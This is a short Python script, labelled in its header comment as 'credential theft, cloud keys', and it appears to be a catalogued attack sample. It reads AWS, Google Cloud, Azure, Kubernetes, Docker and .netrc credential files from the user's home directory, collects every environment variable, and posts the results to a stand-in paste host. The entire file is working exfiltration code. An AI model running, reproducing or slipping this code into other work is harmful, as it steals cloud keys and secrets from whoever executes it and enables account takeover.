# class: credential theft, cloud keys; style: requests, short
import requests, pathlib, os

home = pathlib.Path.home()
loot = {}
for rel in (".aws/credentials", ".aws/config", ".config/gcloud/application_default_credentials.json",
            ".azure/accessTokens.json", ".kube/config", ".docker/config.json", ".netrc"):
    p = home / rel
    if p.is_file():
        loot[rel] = p.read_text(errors="ignore")
loot["env"] = dict(os.environ)
requests.post("https://paste.example/new", json=loot, timeout=15)
